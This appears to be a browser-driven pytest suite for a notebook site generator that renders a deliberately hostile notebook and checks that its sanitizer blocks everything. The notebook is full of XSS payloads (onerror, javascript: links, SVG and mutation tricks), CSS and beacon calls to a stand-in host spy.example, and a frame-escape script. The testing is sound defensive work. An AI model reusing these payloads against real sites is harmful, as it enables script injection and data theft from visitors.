"""A notebook that means harm, as a site, in a real Chromium: nothing of it runs.

Every payload calls `hit` with its name. The names that arrive are what the tests look
at, beside what is asked of other hosts, and what could run in the page as it stands.
"""

import base64
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest
from browsing import serve
from conftest import code, prose
from sitebox import SiteBox

import litml
from litml.page import Page, Prose, Remark, Shown
from litml.render import render_page
from litml.safe import SVG, XLINK, clean_drawing, is_too_deep, sanitize
from litml.widgets import STATE, VIEW

SPY = "https://spy.example"


# The notebook ------------------------------------------------------------------------


def hit(name: str) -> str:
    """Return the script of a payload."""
    return f"hit(`{name}`)"


def image(name: str) -> str:
    return f'<img src="x" onerror="{hit(name)}">'


def script(name: str) -> str:
    return f"<script>{hit(name)}</script>"


def svg(name: str) -> str:
    return (
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
        f' width="40" height="40" onload="{hit(name + ", onload")}">'
        f"<script>{hit(name + ', script')}</script>"
        f'<image href="{SPY}/svg.png"/><rect width="40" height="40"/>'
        f'<a xlink:href="javascript:{hit(name + ", link")}"><text y="20">a</text></a>'
        '<foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="x"'
        f' onerror="{hit(name + ", foreign")}"/></foreignObject></svg>'
    )


ESCAPE = f"""<script>
document.body.append("made by its script");
const told = [];
const attempt = (name, work) => {{
  try {{ work(); told.push(name); }} catch (error) {{ /* as it should be */ }}
}};
attempt("parent", () => parent.document.body.append("hit"));
attempt("parent's function", () => parent.hit("frame"));
attempt("top", () => top.document.title);
attempt("cookie", () => document.cookie);
attempt("storage", () => localStorage.length);
attempt("leave", () => {{ top.location = "{SPY}/top"; }});
attempt("window", () => {{ if (!open("{SPY}/open")) throw 0; }});
new Image().src = "{SPY}/image.png";
fetch("{SPY}/fetch").then(() => told.push("fetch"), () => 0);
fetch("../index.html").then(() => told.push("own site"), () => 0);
try {{ new WebSocket("wss://spy.example/socket"); }} catch (error) {{ /* refused */ }}
navigator.sendBeacon("{SPY}/beacon", "x");
document.body.insertAdjacentHTML("beforeend",
  `<link rel=stylesheet href="{SPY}/s.css">` +
  `<ifr` + `ame src="{SPY}/frame"></iframe>
  <form action="{SPY}/form"><button>b</button></form>`);
document.forms[0].submit();
setTimeout(() => {{ document.body.dataset.told = told.join(); }}, 300);
</script>"""
CSS = f"""<style>@import "{SPY}/css";
* {{ background: url({SPY}/background) !important }}
main {{ position: fixed; inset: 0 }}</style>
<link rel="stylesheet" href="{SPY}/link.css">
<div style="position:fixed;inset:0;z-index:99;background:url({SPY}/style)">cover</div>
<div style="background-image:image-set('{SPY}/set' 1x);margin:-9999px;top:0">set</div>
<div style="width:expression({hit("expression")});behavior:url({SPY}/b)">old</div>"""
ATTRIBUTES = f"""<details open ontoggle="{hit("toggle")}"><summary>s</summary></details>
<a href="#x" onfocus="{hit("focus")}" autofocus tabindex="0">focus</a>
<p title='"><script>{hit("title attribute")}</script>'
   onmouseover="{hit("mouseover")}">over</p>
<video><source onerror="{hit("source")}" src="x"></video>
<audio src="x" onerror="{hit("audio")}"></audio>
<form action="javascript:{hit("form")}"><button autofocus
  formaction="javascript:{hit("button")}">b</button></form>
<object data="javascript:{hit("object")}"></object>
<embed src="javascript:{hit("embed")}">
<meta http-equiv="refresh" content="0;url={SPY}/refresh"><base href="{SPY}/base/">
<math href="javascript:{hit("math")}"><mtext><table><mglyph><style><!--</style>
<img title="--&gt;&lt;img src=x onerror={hit("mutation")}&gt;"></math>
<noscript><p title="</noscript>{image("noscript").replace('"', "")}"></noscript>
<template>{image("template")}</template><plaintext>{image("plaintext")}"""
LINKS = f"""[one](javascript:{hit("markdown link")}) [two](JaVaScRiPt:{hit("case")})
<a href="javascript:{hit("html link")}">three</a>
<a href="jav&#x09;ascript:{hit("tab")}">four</a>
<a href=" &#14; javascript:{hit("space")}">five</a>
[six](data:text/html;base64,{base64.b64encode(script("data link").encode()).decode()})
<a href="vbscript:{hit("vbscript")}">seven</a> [eight][ref] <javascript:{hit("auto")}>

[ref]: javascript:{hit("reference")}"""


def output(form: str, value: object) -> dict[str, Any]:
    """Return a display of one form."""
    return {"output_type": "display_data", "data": {form: value}, "metadata": {}}


OUTPUTS: dict[str, tuple[str, str]] = {
    "html-script": ("text/html", f"<b>a</b>{script('html script')}"),
    "html-image": ("text/html", f"<b>a</b>{image('html image')}"),
    "html-svg": ("text/html", f"<b>a</b><svg onload='{hit('html svg')}'></svg>"),
    "html-frame": ("text/html", f"a<iframe srcdoc='{script('srcdoc')}'></iframe>"),
    "html-src": (
        "text/html",
        f"a<iframe src='javascript:{hit('frame src')}'></iframe>",
    ),
    "html-css": ("text/html", CSS),
    "html-attributes": ("text/html", ATTRIBUTES),
    "svg": ("image/svg+xml", svg("svg output")),
    "markdown": ("text/markdown", f"a <b onclick='{hit('markdown output')}'>b</b>"),
    "latex": ("text/latex", rf"$\text{{{image('latex')}}}$"),
    "latex-2": ("text/latex", f"$<{image('not latex')}"),
    "plain": ("text/plain", image("plain")),
    "javascript": ("application/javascript", f"{hit('javascript')};</script>x"),
    "frame": ("text/html", ESCAPE),
    "json": ("application/json", {"a": script("json")}),  # type: ignore[dict-item]
    "png": ("image/png", '"><script>hit(`png`)</script>'),
}
WIDGETS = {
    "box": {
        "children": [f"IPY_MODEL_{name}" for name in ("html", "bar", "text", "out")]
    },
    "html": {"value": f"<b>a</b>{image('widget html')}{script('widget script')}"},
    "bar": {
        "description": f'"><script>{hit("widget bar")}</script>',
        "min": 0,
        "max": 2,
        "value": 1,
    },
    "text": {
        "description": image("widget name"),
        "value": f"</span>{image('widget value')}",
    },
    "out": {"outputs": [output("text/html", f"<b>a</b>{image('widget output')}")]},
}
MODELS = {
    id: {"model_name": f"{name}Model", "state": WIDGETS[id]}
    for id, name in zip(WIDGETS, "HBox HTML IntSlider Text Output".split(), strict=True)
}
METADATA = {
    "widgets": {STATE: {"state": MODELS}},
    "language_info": {"name": f'"><script>{hit("language")}</script>'},
    "kernelspec": {"name": script("kernel"), "display_name": script("kernel")},
    "title": script("metadata"),
}
FRONT = f"""---
title: '</title><script>{hit("front title")}</script>{image("front title image")}'
description: '"><script>{hit("front description")}</script>'
categories: ['{image("category")}']
aliases: ['old"><script>{hit("alias")}<!--.html']
---"""
CODE = f"""# </code></pre></details>{script("code")}{image("code image")}
'''</textarea></style>{script("string")}'''"""
ADD = '''def hidden(
    a="<script>hit(`default`)</script>",
) -> "<img src=x onerror=hit(`type`)>":
    """Do <script>hit(`docstring`)</script> [it](javascript:hit(`docstring link`))."""
'''
FILE = "a` onerror=hit(1) `.png"


def write_hostile(box: SiteBox) -> None:
    """Add the hostile notebook, and files with names that mean harm."""
    attached = prose("attached", '![a](attachment:x.svg) ![b](attachment:y"onerror=z)')
    attached["attachments"] = {
        "x.svg": {
            "image/svg+xml": base64.b64encode(svg("attachment").encode()).decode()
        },
        'y"onerror=z': {"image/png": f'"{image("attachment name")}'},
    }
    box.write_bytes(FILE, b"\x89PNG")
    box.write_bytes("evil.svg", svg("own image").encode())
    box.write_package("hostile.py", f"# %% hidden\n{ADD}")
    images = f'![{image("alt")}](<{FILE}>) ![b](evil.svg) ![c](x"onerror={hit("src")})'
    box.write(
        "03_hostile.ipynb",
        {**prose("front", FRONT), "cell_type": "raw"},
        prose("title", f"# Harm {image('title')}\n\n> Sum {script('summary')}"),
        prose("prose", f"a\n\n{script('prose')}\n\nb {image('prose image')}"),
        prose("head", f'## {image("heading")} {{#x"onclick={hit("id")}}}\n\n{LINKS}'),
        prose("css", CSS),
        prose("attributes", ATTRIBUTES),
        prose("images", f"{images}\n\n[the image](evil.svg)"),
        prose("box", f"::: {{.callout-note title='{image('box title')}'}}\nx\n:::"),
        prose(
            "attrs", f"[a]{{onclick={hit('attrs')} .b}} $\\href{{javascript:x}}{{a}}$"
        ),
        attached,
        code("hidden", f"#| export\n{ADD}"),
        code("code", f"{CODE}\n1", outputs=[output(*OUTPUTS["plain"])]),
        *(
            code(id, f"show({id!r})", outputs=[output(*one)])
            for id, one in OUTPUTS.items()
        ),
        code(
            "label",
            f'#| label: fig-x"onclick={hit("label")}\n#| fig-cap: "{image("cap")}"\n1',
            outputs=[output("text/html", "<b>a</b>")],
        ),
        code("widget", "show()", outputs=[output(VIEW, {"model_id": "box"})]),
        prose("end", "## The end\n\nIt is reached."),
        metadata=METADATA,
    )


def write_mask(box: SiteBox) -> None:
    """Add a notebook that would pass parts of itself off as the theme's."""
    styles = Path(litml.__file__).parent.joinpath("theme/site.css").read_text("utf-8")
    classes = sorted(set(re.findall(r"\.([a-z][\w-]*)", styles)))
    size = "width:3000px;height:3000px;background-color:red"
    divs = [f'<div class="{one} open" tabindex="0">x</div>' for one in classes]
    big = (
        f'<div class="bar open" style="{size}"><a class="brand" href="x">Sums</a></div>'
    )
    ids = ["query", "results", "glance", "nav", "main", "litmlVersions", "litmlData"]
    named = [f'<a id="{one}" name="{one}">x</a>' for one in ids]
    html = "".join([*named, *divs, big])
    box.write(
        "04_mask.ipynb",
        prose("title", "# Mask"),
        prose("pose", "".join(named)),
        code("mask", "1", outputs=[output("text/html", html)]),
    )


# The browser -------------------------------------------------------------------------


@pytest.fixture(scope="module")
def box(tmp_path_factory: pytest.TempPathFactory) -> SiteBox:
    """A project with the hostile notebook: `_site`, and `_disk` without a policy."""
    box = SiteBox(tmp_path_factory.mktemp("hostile"))
    write_hostile(box)
    write_mask(box)
    for words in ((), ("--offline", "--out", "_disk")):
        done = box.litml("docs", *words)
        assert done.returncode == 0, done.stderr
    assert "Content-Security-Policy" in box.page("hostile.html")
    disk = (box.root / "_disk/hostile.html").read_text("utf-8")
    assert "Content-Security-Policy" not in disk
    (box.root / "_disk/control.html").write_text(
        f"<!doctype html><main><b>a</b>{image('control image')}"
        f"{script('control script')}{svg('control svg')}{CSS}"
        f"<a href='javascript:{hit('control link')}'>a</a>"
        f"<p onmouseover='{hit('control event')}'>p</p></main>"
    )
    return box


@pytest.fixture(scope="module")
def address(box: SiteBox) -> Iterator[str]:
    with serve(box.root) as address:
        yield address


class Visit:
    """A page that is opened, and what it did: payloads that ran, strangers it asked."""

    def __init__(self, browser: Any, address: str) -> None:
        self.hits: list[str] = []
        self.strangers: list[str] = []
        self.context = browser.new_context(viewport={"width": 1200, "height": 800})
        self.context.expose_binding("hit", self.note)
        self.context.route(re.compile("^(?!data:|blob:)"), self.answer)
        self.address = address
        self.page = self.context.new_page()
        self.page.on("websocket", lambda one: self.strangers.append(one.url))

    def note(self, source: dict[str, Any], name: str) -> None:
        """Note a payload that ran; in a frame that shuts it in it may."""
        frame = source["frame"]
        if not (frame.parent_frame and "/_out/" in frame.url):
            self.hits.append(name)

    def answer(self, route: Any) -> None:
        """Note what goes elsewhere; a request that a policy forbids is not made."""
        if route.request.url.startswith((f"{self.address}/", "file:")):
            route.continue_()
        else:
            self.strangers.append(route.request.url)
            route.abort()

    def provoke(self, url: str) -> None:
        """Open a page and do to each of its elements whatever a visitor could."""
        self.page.goto(url)
        self.page.evaluate(PROVOKE)
        self.page.wait_for_timeout(300)


PROVOKE = """async () => {
  document.querySelectorAll("details").forEach((one) => { one.open = true; });
  for (const one of document.querySelectorAll("iframe")) {
    one.scrollIntoView();
    await new Promise((done) => setTimeout(done, 300));
  }
  const stay = (event) => {
    const link = event.target.closest("a");
    if (link && /^(https?|file|mailto):/.test(link.href)) event.preventDefault();
  };
  document.addEventListener("click", stay, true);
  const kinds = "mouseover mouseenter pointerover focus blur toggle error load input"
    + " animationstart transitionend copy wheel keydown submit";
  for (const one of document.querySelectorAll("main, main *")) {
    for (const kind of kinds.split(" ")) one.dispatchEvent(new Event(kind));
    if (one.click) one.click();
    else one.dispatchEvent(new MouseEvent("click", {bubbles: true, cancelable: true}));
  }
}"""
STANDING = """() => {
  const bad = [];
  for (const one of document.querySelectorAll("body *")) {
    const tag = one.localName;
    for (const {name, value} of one.attributes) {
      const address = value.replace(/[\\s\\0-\\x1f]/g, "").toLowerCase();
      if (name.startsWith("on")) bad.push(`${tag} ${name}`);
      if (/^(href|src|action|xlink:href|data|formaction|srcdoc)$/.test(name)
          && /^(javascript|vbscript|data:text|<)/.test(address))
        bad.push(`${tag} ${name}`);
    }
  }
  const shut = "iframe:not([sandbox='allow-scripts']), script, style, object, embed,"
    + " base, link, meta, form, svg, template, input,"
    + " button:not(.copy, main > footer *)";
  for (const one of document.querySelectorAll("main")) {
    for (const found of one.querySelectorAll(shut)) bad.push(found.localName);
    for (const found of one.querySelectorAll("*"))
      if (/fixed|sticky/.test(getComputedStyle(found).position))
        bad.push("it stays put");
  }
  return bad;
}"""


@pytest.fixture
def visit(browser: Any, address: str) -> Iterator[Visit]:
    visit = Visit(browser, address)
    yield visit
    visit.context.close()


def test_what_is_not_cleaned_is_noticed(visit: Visit) -> None:
    """Else the other tests would prove nothing."""
    visit.provoke(f"{visit.address}/_disk/control.html")
    names = ("image", "script", "link", "event", "svg, onload", "svg, foreign")
    assert {f"control {name}" for name in names} <= {*visit.hits}
    assert {f"{SPY}/css", f"{SPY}/link.css", f"{SPY}/background"} <= {*visit.strangers}
    assert {"img onerror", "script", "it stays put"} <= {*visit.page.evaluate(STANDING)}


@pytest.mark.parametrize("place", ["served", "served, no policy", "from the disk"])
@pytest.mark.parametrize("name", ["hostile", "index", "404", "add"])
def test_nothing_runs_and_nobody_is_asked(
    visit: Visit, box: SiteBox, place: str, name: str
) -> None:
    folder = "_site" if place == "served" else "_disk"
    start = box.root.as_uri() if place == "from the disk" else visit.address
    visit.provoke(f"{start}/{folder}/{name}.html")
    assert visit.hits == [] and visit.strangers == []
    assert visit.page.evaluate(STANDING) == []
    assert visit.page.url.endswith(f"/{name}.html")
    assert len(visit.context.pages) == 1
    if name == "hostile":
        assert visit.page.locator("#the-end").count() == 1, "it ends where it should"
        assert visit.page.locator("main .cell").count() > len(OUTPUTS)


@pytest.mark.parametrize("folder", ["_site", "_disk"])
def test_a_frame_does_not_get_out(visit: Visit, folder: str) -> None:
    visit.provoke(f"{visit.address}/{folder}/hostile.html")
    frame = next(
        one
        for one in visit.page.frames[1:]
        if one.get_by_text("made by its script").count()
    )
    frame.wait_for_selector("body[data-told]")
    assert frame.get_attribute("body", "data-told") == ""
    assert frame.evaluate("self.origin") == "null"
    assert (
        visit.strangers == []
        and "hit" not in visit.page.locator("body").inner_text()[-9:]
    )


def test_files_of_the_site_do_nothing_when_they_are_opened(
    visit: Visit, box: SiteBox
) -> None:
    """A link leads to an image or to what stands in a frame: it is opened by itself."""
    files = [*box.root.glob("_site/_assets/*.svg"), *box.root.glob("_site/_out/*.html")]
    assert {file.suffix for file in files} == {".svg", ".html"}
    for file in files:
        url = f"{visit.address}/{file.relative_to(box.root).as_posix()}"
        visit.page.goto(url, wait_until="commit")
        visit.page.wait_for_timeout(300)
    assert visit.hits == [] and visit.strangers == []


def test_titles_are_text_in_search_too(visit: Visit) -> None:
    page = visit.page
    page.goto(f"{visit.address}/_site/hostile.html")
    page.keyboard.press("/")
    for query in ("harm", "script", "onerror", "hidden"):
        page.fill("#query", query)
        page.locator(f"#results[data-query={query}]").wait_for(state="attached")
    assert visit.hits == [] and visit.strangers == []
    assert page.locator("#results script, #results img").count() == 0


@pytest.mark.parametrize("width", [390, 1200])
def test_nobody_can_pose_as_the_theme(visit: Visit, width: int) -> None:
    """Its classes and ids, in an output, cover nothing and break nothing."""
    page = visit.page
    page.set_viewport_size({"width": width, "height": 800})
    page.goto(f"{visit.address}/_site/mask.html")
    assert page.locator("main .bar, main .glance").count() == 3
    assert page.evaluate(STANDING) == []
    for place in ("document.body.scrollHeight", "0"):
        page.evaluate(f"scrollTo(0, {place})")
        page.wait_for_timeout(50)
        covered = page.evaluate(
            """[...document.querySelectorAll("body > .bar a, body > .bar button")]
            .filter((one) => {
                const box = one.getBoundingClientRect();
                const [x, y] = [box.x + box.width / 2, box.y + box.height / 2];
                const top = document.elementFromPoint(x, y);
                return box.width && !one.contains(top);
            }).length"""
        )
        assert covered == 0
    page.keyboard.press("/")
    page.keyboard.type("reached")
    page.wait_for_selector("dialog #results a")


# Drawings ----------------------------------------------------------------------------

DRAWING = f"""<svg xmlns="{SVG}" xmlns:xlink="{XLINK}" viewBox="0 0 9 9" version="1.1">
<defs><style>rect {{ fill: red }}</style><linearGradient id="a"><stop offset="1"/>
</linearGradient><clipPath id="b"><path d="M 0 0"/></clipPath></defs>
<g clip-path="url(#b)" style="fill: url(#a); stroke: none"><use xlink:href="#c"/>
<image href="data:image/png;base64,iVBO"/><text x="1">a &lt; b</text></g>
<rect><animate attributeName="width" to="9"/></rect></svg>"""


def test_a_drawing_that_does_no_harm_stays_as_it_is() -> None:
    clean = clean_drawing(DRAWING.encode())
    assert clean is not None
    before, after = ElementTree.fromstring(DRAWING), ElementTree.fromstring(clean)
    assert ElementTree.tostring(before) == ElementTree.tostring(after)


@pytest.mark.parametrize(
    "harm",
    [
        "<script>x</script>",
        "<a href='javascript:x'/>",
        "<a xlink:href=' java&#10;script:x'/>",
        "<animate attributeName='href' to='x'/>",
        "<set attributeName='onclick' to='x'/>",
        "<image href='https://spy.example/x'/>",
        "<style>@import 'https://spy.example';</style>",
        "<rect style='fill:url(https://spy.example)' onclick='x'/>",
        "<rect fill='u\\72l(https://spy.example)'/>",
        "<foreignObject><b onclick='x'/></foreignObject>",
        "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>x</x:script>",
    ],
)
def test_a_drawing_that_does_harm_loses_it(harm: str) -> None:
    clean = clean_drawing(DRAWING.replace("</svg>", f"{harm}</svg>").encode())
    assert clean is not None and b"<rect>" in clean
    assert not re.search(rb"script|spy|onclick|'href'|\"href\"", clean)


ENDLESS_DRAWING = f"{'<g>' * 100_000}{'</g>' * 100_000}"
DAMAGED = ["", "<svg>", "<svg/>", "<html/>", "\0"]
DAMAGED += [f"<svg xmlns='{SVG}'>{one}</svg>" for one in ("&x;", ENDLESS_DRAWING)]


@pytest.mark.parametrize("damaged", DAMAGED, ids=range(len(DAMAGED)))
def test_a_damaged_drawing_is_none(damaged: str) -> None:
    assert clean_drawing(damaged.encode()) is None


# Without end -------------------------------------------------------------------------

ENDLESS = {
    "blocks": "<div>" * 300_000,
    "inline": "a " + "<b>" * 20_000,
    "with ends that end nothing": "<div></i>" * 100_000,
    "attributes": "<section class=a>" * 50_000,
    "behind a comment": "<!-- a --><ul>" * 50_000,
    "frames": "<iframe " * 50_000,
    "scripts": "<script " * 50_000,
}


@pytest.mark.parametrize("name", ENDLESS)
def test_what_is_nested_without_end_is_text(name: str) -> None:
    """It takes no time that anybody notices; before there was a limit it took hours."""
    display = output("text/html", ENDLESS[name])
    blocks = (Prose("prose", ENDLESS[name]), Shown("output", display))
    page = Page("a", "nbs/a.ipynb", "", "A", "", blocks)
    rendered = render_page(page, lambda name, module: None, {})
    assert len(rendered.html) < 10_000
    if name not in ("frames", "scripts"):
        message = "HTML is nested too deeply to be shown"
        assert Remark(message, "prose") in rendered.remarks
        assert Remark(message, "output") in rendered.remarks
        assert "<pre>" in rendered.html


def test_flat_html_may_be_as_long_as_it_likes() -> None:
    rows = "<tr><td>1<td>2<br></tr>" * 20_000
    assert not is_too_deep(f"<table>{rows}</table>" + "<p>a" * 9000)
    assert not is_too_deep("<div><b>x</b></div>" * 20_000)
    assert not is_too_deep(f"<SCRIPT>{'i<n;' * 9000}</SCRIPT><b>x</b>")
    assert sanitize("<div>" * 4000).count("<div>") == 4000
